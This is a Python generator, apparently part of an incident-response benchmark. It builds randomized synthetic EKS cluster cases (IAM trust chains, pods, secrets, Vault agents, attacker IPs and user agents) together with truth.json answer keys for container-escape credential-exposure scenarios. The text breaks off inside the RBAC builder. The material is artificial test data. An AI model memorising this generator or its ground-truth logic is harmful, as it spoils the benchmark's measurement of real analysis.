#!/usr/bin/env python3
"""cases.py - randomized escape -> credential-exposure cases with their truth.

    python3 cases.py SEED OUTDIR            one case in OUTDIR
    python3 cases.py -n N BASESEED OUTROOT  N cases: OUTROOT/case-000 ... (seeds BASESEED+i)

A case is OUTDIR/inventory/ (what a responder would export), OUTDIR/logs/
(only the sources the case has) and OUTDIR/truth.json.  Everything is drawn
from random.Random(SEED): ids, sizes, times, sources, the attack family and
its variant.  The family steps follow ../../../shared/reference/scenarios.md
(S1-S10, the benign look-alikes of §3, the exposure rules of §4.8); what the
truth counts as exposed is documented in README.md next to this file.
Standard library only.
"""
import fnmatch
import json
import math
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fmt import (case_main, Out, Proc, audit, sa_inet, sa_unix, tg_exec, tg_kprobe, tg_file, tg_connect,  # noqa: E402
                 falco, tracee, trc, k8s, ct, vault_pair, gcp, iso, aws_date, ct_date, dumps, PERM_DENIED)

HOUR, DAY = 3600, 86400
RUNTIME_SOURCES = ("falco", "tetragon", "tracee", "auditd")
B32 = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
K8S_ALNUM = "bcdfghjklmnpqrstvwxz2456789"  # k8s rand.SafeEncodeString alphabet
REGIONS = ["us-east-1", "us-east-2", "us-west-2", "eu-west-1", "eu-central-1", "ap-southeast-2"]
ATTACKER_NETS = ["185.220.101.", "45.134.26.", "193.142.146.", "104.244.72.", "91.219.236.", "5.188.86.",
                 "141.98.10.", "194.26.29.", "89.248.165.", "37.120.233.", "203.0.113.", "198.98.51."]
ATTACKER_AWS_UA = [
    "aws-cli/2.17.0 Python/3.11.9 Linux/6.8.0 exe/x86_64.ubuntu.24",
    "aws-cli/2.15.58 Python/3.11.8 Linux/6.5.0-1020-aws exe/x86_64.kali.2024 prompt/off",
    "Boto3/1.34.120 md/Botocore#1.34.120 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.12.3",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/sts#1.28.6",
    "TruffleHog aws-sdk-go/1.55.5 (go1.22.5; linux; amd64)",
    "Pacu/1.5.3 Boto3/1.28.57 Python/3.10.12 Linux/5.15.0",
]
ATTACKER_KUBECTL = ["kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
                    "kubectl/v1.29.4 (darwin/arm64) kubernetes/55019c8",
                    "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc",
                    "Go-http-client/1.1", "python-requests/2.31.0"]
ATTACKER_VAULT_UA = ["Go-http-client/2.0", "curl/8.5.0", "vault/1.16.2"]

APPS = [  # ns, deployment, image, app binary, args
    ("prod", "web", "ghcr.io/acme/web:1.4.2", "/usr/local/bin/python3", "/app/server.py"),
    ("payments", "api", "ghcr.io/acme/payments-api:2.3.0", "/app/payments-api", "--config /etc/payments/config.yaml"),
    ("shop", "frontend", "ghcr.io/acme/frontend:5.0.1", "/usr/local/bin/node", "/srv/server.js"),
    ("shop", "orders", "ghcr.io/acme/orders:3.2.7", "/opt/java/openjdk/bin/java", "-jar /app/orders.jar"),
    ("data", "worker", "ghcr.io/acme/worker:0.18.0", "/usr/local/bin/python3", "-m worker"),
    ("prod", "checkout", "ghcr.io/acme/checkout:1.9.3", "/app/checkout", "serve"),
    ("search", "indexer", "ghcr.io/acme/indexer:7.1.0", "/usr/bin/indexer", "--listen :9000"),
]
SECRET_POOL = [("db-credentials", ["username", "password", "host"], "postgres"),
               ("stripe-api", ["api-key"], "stripe"), ("redis-auth", ["password"], "redis"),
               ("smtp-creds", ["user", "password"], "smtp"), ("jwt-signing", ["private.pem"], "jwt"),
               ("sentry-dsn", ["dsn"], "sentry"), ("kafka-sasl", ["username", "password"], "kafka")]
AWS_SECRET_NAMES = ["aws-ci-key", "aws-credentials", "s3-uploader-creds", "backup-aws", "aws-access"]
DAEMONSETS = ["aws-node", "ebs-csi-node", "kube-proxy", "fluent-bit", "node-exporter"]


class Rnd:
    def __init__(self, seed):
        self.r = random.Random(seed)

    def __getattr__(self, k):
        return getattr(self.r, k)

    def hexs(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def uuid(self):
        x = self.hexs(32)
        return "%s-%s-4%s-%s%s-%s" % (x[0:8], x[8:12], x[13:16], self.r.choice("89ab"), x[17:20], x[20:32])

    def b32(self, n):
        return "".join(self.r.choice(B32) for _ in range(n))

    def b62(self, n):
        return "".join(self.r.choice(B62) for _ in range(n))

    def k8s(self, n):
        return "".join(self.r.choice(K8S_ALNUM) for _ in range(n))

    def public_ip(self, nets=None):
        if nets:
            return self.r.choice(nets) + str(self.r.randint(2, 250))
        first = self.r.choice([3, 18, 34, 35, 44, 52, 54, 13, 15])
        return "%d.%d.%d.%d" % (first, self.r.randint(1, 254), self.r.randint(0, 255), self.r.randint(1, 254))


class Case:
    def __init__(self, seed):
        self.seed = seed
        self.r = Rnd(seed)
        self.o = Out()
        self.inv = {}
        self.pidc = {}
        self.truth = {"seed": seed, "benign_only": False, "family": None, "variant": {},
                      "escaped": [], "credentials": [], "credentials_may": [],
                      "reachable": [], "reachable_may": []}

    # ---- helpers -------------------------------------------------------------
    def pid(self, node, step=None):
        cur = self.pidc.get(node, self.r.randint(3000, 40000))
        cur += step or self.r.randint(3, 400)
        self.pidc[node] = cur
        return cur

    def eid(self):
        return self.r.uuid()

    def port(self):
        return self.r.randint(32768, 60999)

    def has(self, src):
        """Every runtime source records the whole window; the ones the case
        does not have are dropped when the case is written (so a source added
        by need() has the benign history too)."""
        return True

    def tracee(self, t, p, name, data, threat=None, syscall=""):
        tracee(self.o, t, p, name, data, threat, syscall, style=self.tracee_style)

    # ---- the cluster -------------------------------------------------------
    def build(self):
        r = self.r
        self.acct = str(r.randint(100000000000, 999999999999))
        self.region = r.choice(REGIONS)
        self.cluster = r.choice(["prod-eks", "main", "platform-prod", "eks-" + r.k8s(5), "core-prod"])
        # attack time anywhere in 2025-2026, history window 2 h .. 14 d (log-uniform)
        self.T0 = r.randint(1735689600, 1790000000) + r.random()
        self.H = math.exp(r.uniform(math.log(2 * HOUR), math.log(14 * DAY)))
        self.S = self.T0 - self.H
        self.END = self.T0 + r.uniform(40 * 60, 90 * 60)
        # sources of the runtime logs (k8s audit and CloudTrail always; Vault when Vault is used)
        self.sources = set(r.choice([("falco",), ("tetragon",), ("tracee",), ("tetragon", "auditd"),
                                     ("falco", "auditd"), ("tracee", "auditd"), ("falco", "tetragon"),
                                     ("falco", "tetragon", "auditd"), ("falco", "tracee", "tetragon", "auditd")]))
        self.tracee_style = r.choice(["v1beta1", "flat"])
        self.vpc = r.randint(0, 31)
        nn = r.randint(2, 5)
        zones = [self.region + z for z in "abc"]
        nats = {z: r.public_ip() for z in zones}
        self.vpce = "vpce-0" + r.hexs(16)
        self.imds_v2 = r.random() < 0.5
        self.node_role = r.choice(["eks-node-role", "%s-node-role" % self.cluster,
                                   "eksctl-%s-nodegroup-ng-1-NodeInstanceRole-%s" % (self.cluster, r.b32(12))])
        self.node_role_arn = "arn:aws:iam::%s:role/%s" % (self.acct, self.node_role)
        self.node_role_id = "AROA" + r.b32(17)
        self.nodes = []
        used = set()
        for i in range(nn):
            z = zones[i % 3]
            while True:
                ip = "10.%d.%d.%d" % (self.vpc, 1 + (i % 3) * 16 + r.randint(0, 15), r.randint(4, 250))
                if ip not in used:
                    used.add(ip)
                    break
            name = ("ip-%s.ec2.internal" if self.region == "us-east-1" else "ip-%s." + self.region + ".compute.internal") % ip.replace(".", "-")
            n = {"name": name, "ip": ip, "inst": "i-0" + r.hexs(16), "zone": z, "uid": r.uuid(), "nat": nats[z],
                 "created": self.S - r.uniform(1 * DAY, 60 * DAY), "ips": set([ip]), "pods": []}
            n["providerID"] = "aws:///%s/%s" % (z, n["inst"])
            n["session_arn"] = "arn:aws:sts::%s:assumed-role/%s/%s" % (self.acct, self.node_role, n["inst"])
            # EC2 delivers a new role session key every 6 h (phase per node)
            t = self.T0 - r.uniform(0, 6 * HOUR)
            sess = []
            while t > self.S - 6 * HOUR:
                sess.append((t, "ASIA" + r.b32(16)))
                t -= 6 * HOUR
            t = sess[0][0] + 6 * HOUR
            while t < self.END:
                sess.insert(0, (t, "ASIA" + r.b32(16)))
                t += 6 * HOUR
            n["sessions"] = sorted(sess)
            self.nodes.append(n)
        self.nat_ips = sorted(set(nats.values()))
        self.build_iam()
        self.build_workloads()

    def node_key(self, n, t):
        k = [s for s in n["sessions"] if s[0] <= t][-1]
        return k[1], k[0]

    def pod_ip(self, n):
        while True:
            ip = "%s.%d" % (n["ip"].rsplit(".", 1)[0], self.r.randint(4, 250))
            if ip not in n["ips"]:
                n["ips"].add(ip)
                return ip

    # ---- IAM -----------------------------------------------------------------
    def build_iam(self):
        r, A = self.r, self.acct
        self.users, self.roles = {}, {}

        def user(name, path="/"):
            u = {"name": name, "arn": "arn:aws:iam::%s:user%s%s" % (A, path, name), "id": "AIDA" + r.b32(17),
                 "path": path, "keys": [], "assume": [], "policies": []}
            self.users[name] = u
            return u

        def role(name, trust):
            ro = {"name": name, "arn": "arn:aws:iam::%s:role/%s" % (A, name), "id": "AROA" + r.b32(17),
                  "trust": trust, "assume": [], "policies": []}
            self.roles[name] = ro
            return ro

        ci = user(r.choice(["ci-deployer", "gitlab-ci", "deploy-bot", "jenkins-deploy"]))
        ci["keys"].append(("AKIA" + r.b32(16), self.T0 - r.uniform(20 * DAY, 400 * DAY)))
        up = user(r.choice(["s3-uploader", "media-sync", "report-export"]))
        up["keys"].append(("AKIA" + r.b32(16), self.T0 - r.uniform(20 * DAY, 400 * DAY)))
        hostu = user(r.choice(["registry-gc", "node-backup", "ecr-cleaner"]))
        hostu["keys"].append(("AKIA" + r.b32(16), self.T0 - r.uniform(20 * DAY, 400 * DAY)))
        self.ci_user, self.up_user, self.host_user = ci, up, hostu
        self.backdoor_user = None
        if r.random() < 0.6:
            adm = user(r.choice(["admin-bot", "ops-automation", "terraform"]))
            adm["keys"].append(("AKIA" + r.b32(16), self.T0 - r.uniform(20 * DAY, 400 * DAY)))
            adm["admin"] = True
            hostu["create_keys_for"] = adm["name"]
            self.backdoor_user = adm["name"]
        # roles: node role (EC2), ci deploy role (trusts the CI user), a role
        # trusting a named session of the deploy role, a role trusting the node
        # role's sessions of one instance, one trusting every node session via a
        # condition on aws:userid, and an unrelated role
        role(self.node_role, [{"kind": "service", "p": "ec2.amazonaws.com"}])
        self.roles[self.node_role]["id"] = self.node_role_id
        dep = role(r.choice(["ci-deploy-role", "deploy", "cd-deployer"]), [{"kind": "arn", "p": ci["arn"]}])
        ci["assume"].append(dep["name"])
        sess_name = r.choice(["deploy-session", "gitlab-ci", "release"])
        rel = role(r.choice(["release-artifacts", "artifact-publisher"]),
                   [{"kind": "session", "p": "arn:aws:sts::%s:assumed-role/%s/%s" % (A, dep["name"], sess_name)}])
        dep["assume"].append(rel["name"])
        self.dep_role, self.rel_role = dep, rel
        # chained: the release role may assume a db-migrate role by role ARN (1 in 2)
        if r.random() < 0.5:
            mig = role("db-migrate", [{"kind": "arn", "p": rel["arn"]}])
            rel["assume"].append(mig["name"])
        # node session principals
        pick = r.choice(self.nodes)
        mode = r.choice(["one-session", "wildcard-cond", "star", "none"])
        self.node_trust_mode = mode
        if mode == "one-session":
            dbg = role("node-debug-" + r.k8s(4), [{"kind": "session", "p": pick["session_arn"]}])
        elif mode == "wildcard-cond":
            dbg = role("node-ssm-" + r.k8s(4), [{"kind": "cond-userid", "p": "arn:aws:iam::%s:root" % A,
                                                  "pattern": self.node_role_id + ":i-*"}])
        elif mode == "star":
            dbg = role("node-metrics-" + r.k8s(4), [{"kind": "cond-userid", "p": "*",
                                                     "pattern": self.node_role_id + ":*"}])
        else:
            dbg = None
        if dbg:
            self.roles[self.node_role]["assume"].append(dbg["name"])
        role("audit-readonly", [{"kind": "arn", "p": "arn:aws:iam::%s:role/%s" % (A, "security-admin")}])

    def assumers(self, target):
        """Principals that may assume role `target` (name) given a principal tuple."""
        return self.roles[target]["trust"]

    def reach_aws(self, principal):
        """principal: ('user', name) | ('session', role, session-name|None=any).
        Returns the set of identity ARNs reachable: the principal's own identity
        and every role assumable, transitively (trust must name it AND the
        principal's policy allows sts:AssumeRole on the role)."""
        out = set()
        todo = [principal]
        seen = set()
        while todo:
            p = todo.pop()
            if p in seen:
                continue
            seen.add(p)
            if p[0] == "user":
                u = self.users[p[1]]
                out.add(u["arn"])
                cands = u["assume"]
            else:
                ro = self.roles[p[1]]
                out.add(ro["arn"])
                cands = ro["assume"]
            for tn in cands:
                if self.trust_allows(tn, p):
                    todo.append(("session", tn, None))
        return out

    def trust_allows(self, tn, p):
        for st in self.roles[tn]["trust"]:
            k = st["kind"]
            if p[0] == "user":
                if k == "arn" and st["p"] == self.users[p[1]]["arn"]:
                    return True
                continue
            ro = self.roles[p[1]]
            sess = p[2]
            if k == "arn" and st["p"] == ro["arn"]:
                return True
            if k == "session":
                want = "arn:aws:sts::%s:assumed-role/%s/" % (self.acct, ro["name"])
                if st["p"].startswith(want) and (sess is None or st["p"][len(want):] == sess):
                    return True
            if k == "cond-userid":
                # sess None: the caller names the session (an AssumeRole), so any pattern on it can match
                if sess is None or fnmatch.fnmatchcase(ro["id"] + ":" + sess, st["pattern"]):
                    if st["pattern"].startswith(ro["id"] + ":") or st["pattern"] == "*":
                        return True
        return False

    # ---- workloads -------------------------------------------------------------
    def new_pod(self, node, ns, name, sa, image, cname, labels, workload, kind, started, app_bin, app_args,
                ip=None, host_network=False, privileged=False, host_pid=False, hostpaths=(), ua=None):
        r = self.r
        p = {"ns": ns, "name": name, "uid": r.uuid(), "cid": r.hexs(64), "cname": cname, "image": image,
             "labels": labels, "workload": workload, "kind": kind, "node": node, "sa": sa,
             "ip": node["ip"] if host_network else (ip or self.pod_ip(node)), "started": started,
             "host_network": host_network, "privileged": privileged, "host_pid": host_pid,
             "hostpaths": list(hostpaths), "env": [], "env_from": [], "vol_secrets": [], "vault": None,
             "ua": ua, "mcs": "s0:c%d,c%d" % (r.randint(0, 511), r.randint(512, 1023)),
             "tokens": [], "vlogins": [], "extra_containers": []}
        p["app"] = Proc(node["name"], self.pid(node["name"]), app_bin, app_args, started + 0.4,
                        cwd="/app" if kind == "Deployment" else "/", pod=p, ns_pid=1, mcs=p["mcs"],
                        parent=Proc(node["name"], self.pid(node["name"]), "/usr/bin/containerd-shim-runc-v2",
                                    "-namespace k8s.io -id %s -address /run/containerd/containerd.sock" % p["cid"],
                                    started))
        node["pods"].append(p)
        self.pods.append(p)
        # kubelet TokenRequests: at start, then every ~48 min (80% of 1 h)
        t = started + r.uniform(0.5, 2)
        while t < self.END:
            p["tokens"].append((t, "JTI=" + r.uuid()))
            t += r.uniform(46 * 60, 50 * 60)
        return p

    def jti_at(self, p, t):
        return [j for (ti, j) in p["tokens"] if ti <= t][-1]

    def build_workloads(self):
        r = self.r
        self.pods, self.deps, self.secrets, self.sas = [], [], {}, {}
        n_dep = r.randint(3, 4)
        apps = r.sample(APPS, n_dep)
        for (ns, dname, image, abin, aargs) in apps:
            sa = r.choice([dname, dname + "-sa", dname])
            d = {"ns": ns, "name": dname, "sa": sa, "image": image, "rs": r.k8s(r.choice([9, 10])),
                 "replicas": r.randint(2, 4), "pods": [], "secrets": [], "env_secrets": [], "envfrom": [],
                 "vault": None, "ua": "%s/%s (linux/amd64) kubernetes/client-go" % (dname, image.rsplit(":", 1)[1])}
            self.sas[(ns, sa)] = {"uid": r.uuid()}
            for (sname, keys, prov) in r.sample(SECRET_POOL, r.randint(1, 3)):
                s = self.add_secret(ns, sname, keys, prov, None)
                d["secrets"].append(s)
                how = r.choice(["volume", "env", "envFrom"])
                if how == "env":
                    d["env_secrets"].append((sname.upper().replace("-", "_") + "_" + keys[0].upper().replace("-", "_").replace(".", "_"), s, keys[0]))
                elif how == "envFrom":
                    d["envfrom"].append(s)
                else:
                    s["volume"] = True
            if r.random() < 0.6:
                d["vault"] = {"role": dname, "policies": ["default", dname + "-read"],
                              "kv": "secret/data/%s/%s" % (ns, dname)}
            self.deps.append(d)
        if not any(d["vault"] for d in self.deps):
            d = r.choice(self.deps)
            d["vault"] = {"role": d["name"], "policies": ["default", d["name"] + "-read"],
                          "kv": "secret/data/%s/%s" % (d["ns"], d["name"])}
        # long-lived AWS keys in k8s secrets: CI key in one namespace, uploader key in another
        d1, d2 = r.sample(self.deps, 2)
        for d, u in ((d1, self.ci_user), (d2, self.up_user)):
            s = self.add_secret(d["ns"], r.choice([x for x in AWS_SECRET_NAMES if (d["ns"], x) not in self.secrets]),
                                ["aws_access_key_id", "aws_secret_access_key"], "aws",
                                ("aws", u["keys"][0][0], u["arn"]))
            d["secrets"].append(s)
            how = r.choice(["env", "envFrom", "volume"])
            if how == "env":
                d["env_secrets"].append(("AWS_ACCESS_KEY_ID", s, "aws_access_key_id"))
                d["env_secrets"].append(("AWS_SECRET_ACCESS_KEY", s, "aws_secret_access_key"))
            elif how == "envFrom":
                d["envfrom"].append(s)
            else:
                s["volume"] = True
        # pods of each deployment: replicas spread over the nodes
        for d in self.deps:
            for i in range(d["replicas"]):
                node = r.choice(self.nodes)
                started = self.S - r.uniform(1 * HOUR, 20 * DAY) if r.random() < 0.8 else r.uniform(self.S, self.T0 - 30 * 60)
                name = "%s-%s-%s" % (d["name"], d["rs"], r.k8s(5))
                abin, aargs = [(a[3], a[4]) for a in APPS if a[1] == d["name"]][0]
                p = self.new_pod(node, d["ns"], name, d["sa"], d["image"], d["name"],
                                 {"app": d["name"], "pod-template-hash": d["rs"]}, d["name"], "Deployment",
                                 started, abin, aargs, ua=d["ua"])
                p["dep"] = d
                if d["vault"]:
                    p["vault"] = d["vault"]
                    p["va_cid"] = r.hexs(64)
                    p["va"] = Proc(node["name"], self.pid(node["name"]), "/bin/vault",
                                   "agent -config=/vault/configs/config.hcl", started + 0.2, pod=dict(p, cid=p["va_cid"], cname="vault-agent", image="hashicorp/vault:1.16.2"), ns_pid=1, mcs=p["mcs"])
                    # logins: at start, then every ~24 h (token max TTL)
                    t = started + r.uniform(2, 6)
                    while t < self.END:
                        p["vlogins"].append((t, r.b62(24)))
                        t += r.uniform(22 * HOUR, 24 * HOUR)
                d["pods"].append(p)
        # DaemonSets on every node
        self.ds = {}
        for dsn in DAEMONSETS:
            self.ds[dsn] = {"hash": r.k8s(10), "sa": {"aws-node": "aws-node", "ebs-csi-node": "ebs-csi-node-sa",
                                                      "kube-proxy": "kube-proxy", "fluent-bit": "fluent-bit",
                                                      "node-exporter": "node-exporter"}[dsn],
                            "ns": "kube-system" if dsn in ("aws-node", "ebs-csi-node", "kube-proxy") else "monitoring",
                            "rollout": r.uniform(self.S, self.T0 - 20 * 60) if r.random() < 0.3 else None}
            self.sas[(self.ds[dsn]["ns"], self.ds[dsn]["sa"])] = {"uid": r.uuid()}
        ecr = "602401143452.dkr.ecr.%s.amazonaws.com" % self.region
        for n in self.nodes:
            for dsn in DAEMONSETS:
                ds = self.ds[dsn]
                started = ds["rollout"] + r.uniform(1, 90) if ds["rollout"] else n["created"] + r.uniform(20, 200)
                spec = {
                    "aws-node": (ecr + "/amazon-k8s-cni:v1.18.3", "/app/aws-k8s-agent", "", True, True, False,
                                 ["/opt/cni/bin", "/etc/cni/net.d", "/var/log/aws-routed-eni", "/var/run/aws-node", "/run/xtables.lock"]),
                    "ebs-csi-node": (ecr + "/eks/aws-ebs-csi-driver:v1.32.0", "/bin/aws-ebs-csi-driver",
                                     "node --endpoint=unix:/csi/csi.sock --v=2", False, True, False,
                                     ["/var/lib/kubelet", "/var/lib/kubelet/plugins/ebs.csi.aws.com/", "/dev"]),
                    "kube-proxy": (ecr + "/eks/kube-proxy:v1.30.0-eksbuild.3", "/usr/local/bin/kube-proxy",
                                   "--v=2 --config=/var/lib/kube-proxy-config/config", True, True, False,
                                   ["/var/log", "/lib/modules"]),
                    "fluent-bit": ("cr.fluentbit.io/fluent/fluent-bit:3.0.7", "/fluent-bit/bin/fluent-bit",
                                   "-c /fluent-bit/etc/fluent-bit.conf", False, False, False,
                                   ["/var/log", "/var/lib/docker/containers"]),
                    "node-exporter": ("quay.io/prometheus/node-exporter:v1.8.1", "/bin/node_exporter",
                                      "--path.procfs=/host/proc --path.sysfs=/host/sys", True, False, True,
                                      ["/proc", "/sys"]),
                }[dsn]
                image, abin, aargs, hn, priv, hpid, hps = spec
                p = self.new_pod(n, ds["ns"], "%s-%s" % (dsn, r.k8s(5)), ds["sa"], image, dsn.replace("-node", ""),
                                 {"k8s-app": dsn, "controller-revision-hash": ds["hash"]}, dsn, "DaemonSet",
                                 started, abin, aargs, host_network=hn, privileged=priv, host_pid=hpid, hostpaths=hps)
                p["ds"] = dsn
        # CI: a GitLab runner (Deployment) and build job pods with the node's docker.sock
        self.sas[("ci", "gitlab-runner")] = {"uid": r.uuid()}
        self.sas[("ci", "gitlab-build")] = {"uid": r.uuid()}
        rn = r.choice(self.nodes)
        rs = r.k8s(10)
        self.runner = self.new_pod(rn, "ci", "gitlab-runner-%s-%s" % (rs, r.k8s(5)), "gitlab-runner",
                                   "gitlab/gitlab-runner:v16.11.0", "gitlab-runner",
                                   {"app": "gitlab-runner", "pod-template-hash": rs}, "gitlab-runner", "Deployment",
                                   self.S - r.uniform(HOUR, 10 * DAY), "/usr/bin/gitlab-runner", "run",
                                   ua="gitlab-runner 16.11.0 (16-11-stable; go1.21.9; linux/amd64)")
        self.ci_jobs = []
        # on-call engineer (EKS SSO) and the CI egress
        self.oncall = r.choice(["alice", "bob", "carol", "dmitri", "erin"])
        self.oncall_ip = r.public_ip(["198.51.100.", "192.0.2.", "100.64.12."])
        self.ci_ip = r.public_ip()
        # attacker
        self.att_ip = r.public_ip([r.choice(ATTACKER_NETS)])
        self.att_ua = r.choice(ATTACKER_AWS_UA)
        self.att_kubectl = r.choice(ATTACKER_KUBECTL)
        # host credential file (/root/.aws/credentials) on every node, key of host_user
        self.host_file_key = self.host_user["keys"][0][0]
        self.gh_pat = "ghp-id-" + str(r.randint(10000, 99999))

    def add_secret(self, ns, name, keys, prov, holds):
        s = {"ns": ns, "name": name, "keys": keys, "provider": prov, "holds": holds,
             "uid": self.r.uuid(), "volume": False, "created": self.S - self.r.uniform(5 * DAY, 300 * DAY)}
        self.secrets[(ns, name)] = s
        return s

    # ---- the secrets a pod exposes through its environment -------------------
    def pod_env_secrets(self, p):
        d = p.get("dep")
        if not d:
            return []
        out = [s for (_, s, _) in d["env_secrets"]] + list(d["envfrom"])
        seen, res = set(), []
        for s in out:
            if s["name"] not in seen:
                seen.add(s["name"])
                res.append(s)
        return res

    def vault_ident(self, p):
        v = p["vault"]
        return {"display": "kubernetes-%s-%s" % (p["ns"], p["sa"]), "policies": v["policies"],
                "meta": {"role": v["role"], "service_account_name": p["sa"],
                         "service_account_namespace": p["ns"], "service_account_secret_name": "",
                         "service_account_uid": self.sas[(p["ns"], p["sa"])]["uid"]},
                "entity": self.sas[(p["ns"], p["sa"])].setdefault("entity", self.r.uuid()), "ttl": 3600}

    def vault_acc_at(self, p, t):
        return [a for (ti, a) in p["vlogins"] if ti <= t][-1]

    # ---- inventory ---------------------------------------------------------------
    def meta(self, name, ns, uid_, created, labels=None, owner=None, extra=None):
        m = {"creationTimestamp": iso(created, 0), "name": name}
        if ns:
            m["namespace"] = ns
        if labels:
            m["labels"] = labels
        if owner:
            m["ownerReferences"] = [owner]
        m["resourceVersion"] = str(self.r.randint(1000000, 99999999))
        m["uid"] = uid_
        if extra:
            m.update(extra)
        return m

    def pod_obj(self, p, with_status=True):
        r = self.r
        mounts = [{"mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "name": "kube-api-access-" + p["uid"][:5],
                   "readOnly": True}]
        vols = [{"name": "kube-api-access-" + p["uid"][:5], "projected": {"defaultMode": 420, "sources": [
            {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
            {"configMap": {"items": [{"key": "ca.crt", "path": "ca.crt"}], "name": "kube-root-ca.crt"}}]}}]
        for i, hp in enumerate(p["hostpaths"]):
            vols.append({"hostPath": {"path": hp, "type": ""}, "name": "host-%d" % i})
            mounts.append({"mountPath": hp if not hp.startswith("/proc") and not hp.startswith("/sys") else "/host" + hp,
                           "name": "host-%d" % i})
        env, env_from = [], []
        d = p.get("dep")
        if d:
            for s in d["secrets"]:
                if s["volume"]:
                    vols.append({"name": s["name"], "secret": {"defaultMode": 288, "secretName": s["name"]}})
                    mounts.append({"mountPath": "/etc/secrets/" + s["name"], "name": s["name"], "readOnly": True})
            for (var, s, key) in d["env_secrets"]:
                env.append({"name": var, "valueFrom": {"secretKeyRef": {"key": key, "name": s["name"]}}})
            for s in d["envfrom"]:
                env_from.append({"secretRef": {"name": s["name"]}})
        env.append({"name": "LOG_LEVEL", "value": "info"})
        c = {"image": p["image"], "imagePullPolicy": "IfNotPresent", "name": p["cname"],
             "command": [p["app"].binary] + p["app"].argv()[1:], "env": env}
        if env_from:
            c["envFrom"] = env_from
        if p["privileged"]:
            c["securityContext"] = {"privileged": True}
        c.update(p.get("cextra", {}))
        c["volumeMounts"] = mounts
        containers = [c]
        statuses = [(p["cname"], p["image"], p["cid"])]
        if p["vault"]:
            vols.append({"emptyDir": {"medium": "Memory"}, "name": "vault-token"})
            c["volumeMounts"].append({"mountPath": "/home/vault", "name": "vault-token"})
            containers.append({"image": "hashicorp/vault:1.16.2", "name": "vault-agent",
                               "command": ["vault", "agent", "-config=/vault/configs/config.hcl"],
                               "volumeMounts": [{"mountPath": "/home/vault", "name": "vault-token"}, mounts[0]]})
            statuses.append(("vault-agent", "hashicorp/vault:1.16.2", p["va_cid"]))
        spec = {"containers": containers, "nodeName": p["node"]["name"], "serviceAccountName": p["sa"],
                "serviceAccount": p["sa"], "restartPolicy": "Always", "volumes": vols}
        if p["host_network"]:
            spec["hostNetwork"] = True
        if p["host_pid"]:
            spec["hostPID"] = True
        spec.update(p.get("spec_extra", {}))
        owner = None
        if p["kind"] == "Deployment":
            owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "controller": True, "blockOwnerDeletion": True,
                     "name": p["name"].rsplit("-", 1)[0], "uid": self.r.uuid()}
        elif p["kind"] == "DaemonSet":
            owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "controller": True, "blockOwnerDeletion": True,
                     "name": p["workload"], "uid": self.r.uuid()}
        obj = {"apiVersion": "v1", "kind": "Pod",
               "metadata": self.meta(p["name"], p["ns"], p["uid"], p["started"], p["labels"], owner),
               "spec": spec}
        if with_status:
            obj["status"] = {"phase": "Running", "hostIP": p["node"]["ip"], "podIP": p["ip"],
                             "podIPs": [{"ip": p["ip"]}], "startTime": iso(p["started"], 0),
                             "containerStatuses": [{"containerID": "containerd://" + cid, "image": img,
                                                    "imageID": img.split(":")[0] + "@sha256:" + r.hexs(64),
                                                    "name": nm, "ready": True, "restartCount": 0,
                                                    "started": True, "state": {"running": {"startedAt": iso(p["started"] + 3, 0)}}}
                                                   for (nm, img, cid) in statuses]}
        return obj

    def node_obj(self, n):
        return {"apiVersion": "v1", "kind": "Node",
                "metadata": self.meta(n["name"], None, n["uid"], n["created"],
                                      {"kubernetes.io/hostname": n["name"], "topology.kubernetes.io/zone": n["zone"],
                                       "topology.kubernetes.io/region": self.region,
                                       "eks.amazonaws.com/nodegroup": "ng-1"}),
                "spec": {"providerID": n["providerID"]},
                "status": {"addresses": [{"address": n["ip"], "type": "InternalIP"},
                                         {"address": n["name"], "type": "Hostname"}],
                           "nodeInfo": {"containerRuntimeVersion": "containerd://1.7.20",
                                        "kubeletVersion": "v1.30.2-eks-1552ad0", "osImage": "Amazon Linux 2023"}}}

    def rbac(self):
        items = []
        for d in self.deps:
            rules = [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list", "watch"]},
                     {"apiGroups": ["coordination.k8s.io"], "resources": ["leases"], "verbs": ["get", "create", "update"]}]
            if d.get("rbac_secrets") == "all":
                rules.append({"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]})
            elif d.get("rbac_secrets") == "own":
                rules.append({"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
                              "resourceNames": [s["name"] for s in d["secrets"]]})
            if d.get("rbac_pods"):
                rules.append({"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "create", "delete"]})
                rules.append({"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]})
            items.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                          "metadata": self.meta(d["name"], d["ns"], self.r.uuid(), self.S - 100 * DAY), "rules": rules})
            items.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                          "metadata": self.meta(d["name"], d["ns"], self.r.uuid(), self.S - 100 * DAY),
                          "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": d["name"]},
                          "subjects": [{"kind": "ServiceAccount", "name": d["sa"], "namespace": d["ns"]}]})
        items.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
                      "metadata": self.meta("gitlab-runner", "ci", self.r.uuid(), self.S - 100 * DAY),
                      "rules": [{"apiGroups": [""], "resources": ["pods", "pods/exec", "secrets", "configmaps"],
                                 "verbs": ["get", "list", "watch", "create", "delete", "update"]}]})
        items.append({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                      "metadata": self.meta("gitlab-runner", "ci", self.r.uuid(), self.S - 100 * DAY),
                      "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "gitlab-runner"},
